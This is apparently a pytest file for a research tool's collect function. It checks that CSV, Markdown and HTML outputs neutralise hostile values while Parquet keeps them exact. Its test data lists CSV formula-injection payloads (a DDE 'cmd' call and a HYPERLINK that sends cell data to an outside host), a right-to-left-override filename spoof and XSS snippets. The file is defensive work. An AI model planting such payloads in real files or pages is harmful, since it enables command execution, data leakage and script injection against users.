"""Hostile values in collect's outputs: formula cells, bidi controls and raw HTML/Markdown made inert.

A dotted axis whose values are spreadsheet formulas (`=`, `+`, `-`, `@`, a tab), an RTL override
(U+202E) and raw `<img onerror>`/`<script>`/Markdown link text are swept; every CSV collect writes
starts no field with a formula character (OWASP: prefixed with `'`), the Parquet table keeps the
exact values, summary.md holds no raw tag or link, and no human-facing file holds a bidi control.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from alignkit.collect import collect
from alignkit.contract.textsafe import BIDI, csv_cell, md_cell, no_bidi
from tests.fixtures.synthetic_study import write_study

HOSTILE = ("=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "safe\u202etxt.exe", "<img src=x onerror=alert(1)>",
           "<script>alert(1)</script>", "[click](javascript:alert(1))")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_study(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile") / "study"
    write_study(root, models=("tiny-llama",), datasets=("beavertails",), methods=("dpo",), pefts=("lora",),
                seeds=(0,), steps=(), max_steps=50, benchmarks=("mmlu",), merges=False,
                dotted={"method.loss_type": HOSTILE}, checkpoint_files=True, paper_names=False)
    collect(root, out=root / "c", formats=("csv", "parquet", "md", "html"), accounting=False)
    return root / "c"


def _fields(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_every_csv_has_no_formula_cell(hostile_study):
    csvs = sorted(hostile_study.glob("*.csv"))
    assert {p.name for p in csvs} >= {"results.csv", "summary.csv", "checkpoints.csv"}
    for p in csvs:
        cells = _fields(p)
        assert [c for c in cells if c.startswith(FORMULA_START)] == [], p.name
    cells = _fields(hostile_study / "results.csv")
    for v in HOSTILE[:5]:  # each swept value is there, shown as text
        assert "'" + v in cells


def test_parquet_keeps_the_exact_values(hostile_study):
    pq = pytest.importorskip("pyarrow.parquet")
    values = set(pq.read_table(hostile_study / "results.parquet").column("method.loss_type").to_pylist())
    assert values == set(HOSTILE)


def test_no_bidi_control_and_no_raw_html_in_human_facing_outputs(hostile_study):
    for name in ("summary.md", "results.csv", "summary.csv", "checkpoints.csv", "report.html", "summary.html"):
        text = (hostile_study / name).read_text(encoding="utf-8")
        assert not any(ch in text for ch in BIDI), name
    md = (hostile_study / "summary.md").read_text(encoding="utf-8")
    assert "safe\\[U+202E\\]txt.exe" in md  # shown, Markdown-escaped: renders as safe[U+202E]txt.exe
    for raw in ("<img", "<script", "[click]("):
        assert raw not in md
    assert "&lt;img src=x onerror=alert(1)&gt;" in md
    page = (hostile_study / "report.html").read_text(encoding="utf-8")
    assert "<img src=x onerror" not in page and "<script>alert(1)" not in page


def test_cell_helpers():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("-0.5") == "'-0.5" and csv_cell(-0.5) == -0.5
    assert csv_cell("plain") == "plain" and csv_cell(None) is None
    assert no_bidi("a\u202eb\u2066c") == "a[U+202E]b[U+2066]c"
    assert md_cell("a|b*c*_`x`_[l](u)\nnext") == "a\\|b\\*c\\*_\\`x\\`_\\[l\\](u) next"
